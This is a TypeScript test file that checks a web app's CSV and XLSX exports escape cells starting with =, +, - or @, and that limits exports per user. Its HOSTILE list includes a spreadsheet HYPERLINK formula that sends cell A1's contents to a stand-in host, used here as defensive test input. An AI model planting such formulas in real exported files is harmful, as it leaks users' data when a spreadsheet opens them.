import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safeCell, xlsxBuffer } from '../../src/server/tabular.ts';
import { ENGINE, startTestApp, type TestApp } from '../helpers/app.ts';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from '../helpers/xlsx.ts';

/**
 * Issue 10 item 11: exports write no formulas a spreadsheet would run, and have a limit of their
 * own per user.
 */
const A = '03136';
let t: TestApp;
let admin: string;
let xa: string;
let xa2: string;

beforeAll(async () => {
  t = await startTestApp({ rateLimits: true });
  admin = await t.login('admin');
  for (const username of ['ex.xa', 'ex.xa2']) {
    const r = await t.as(admin, 'POST', '/api/v1/users', {
      username,
      fullName: username,
      password: 'password-123',
      role: 'commune_health',
      jurisdiction: { level: 'commune', unitCode: A },
    });
    expect(r.statusCode, r.body).toBe(201);
  }
  xa = await t.login('ex.xa', 'password-123');
  xa2 = await t.login('ex.xa2', 'password-123');
});
afterAll(() => t?.close());

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-3+4', '@SUM(A1:A9)'];

describe(`exports on ${ENGINE}`, () => {
  it('the villages CSV writes a cell beginning with = + - @ as text', async () => {
    for (const name of HOSTILE) {
      const r = await t.as(xa, 'POST', '/api/v1/villages', { communeCode: A, name, kind: 'thon' });
      expect(r.statusCode, r.body).toBe(201);
    }
    const csv = await t.as(xa, 'GET', `/api/v1/villages/export.csv?commune=${A}`);
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = Papa.parse<Record<string, string>>(csv.body.replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    const names = rows.map((r) => r.ten!);
    for (const name of HOSTILE) expect(names).toContain(`'${name}`);
    expect(names.every((n) => !/^[=+\-@\t\r]/.test(n))).toBe(true);
  });

  it('every XLSX export goes through one helper that leaves no text cell a formula', async () => {
    const file = await xlsxBuffer([
      { name: 'x', rows: [[...HOSTILE, '\tTab', 'Bình thường', -5, 'a=b']] },
    ]);
    const values = readSheet(file)[0];
    expect(values).toEqual([...HOSTILE.map((h) => `'${h}`), "'\tTab", 'Bình thường', '-5', 'a=b']);
    // a number stays a number cell (not text)
    expect(unzipSync(file)['xl/worksheets/sheet1.xml']).toBeDefined();
    expect(strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml']!)).toMatch(
      /<c r="[A-Z]+1"><v>-5<\/v><\/c>/,
    );
    expect(safeCell('\rx')).toBe("'\rx");
    expect(safeCell(12)).toBe(12);
  });

  it('limits exports per user: the 11th in a minute is refused, another user is not', async () => {
    const codes: number[] = [];
    for (let i = 0; i < 11; i++)
      codes.push((await t.as(xa, 'GET', `/api/v1/villages/export.csv?commune=${A}`)).statusCode);
    // one export was used by the test above
    expect(codes.filter((c) => c === 429).length).toBe(2);
    expect((await t.as(xa2, 'GET', `/api/v1/villages/export.csv?commune=${A}`)).statusCode).toBe(
      200,
    );
  });
});
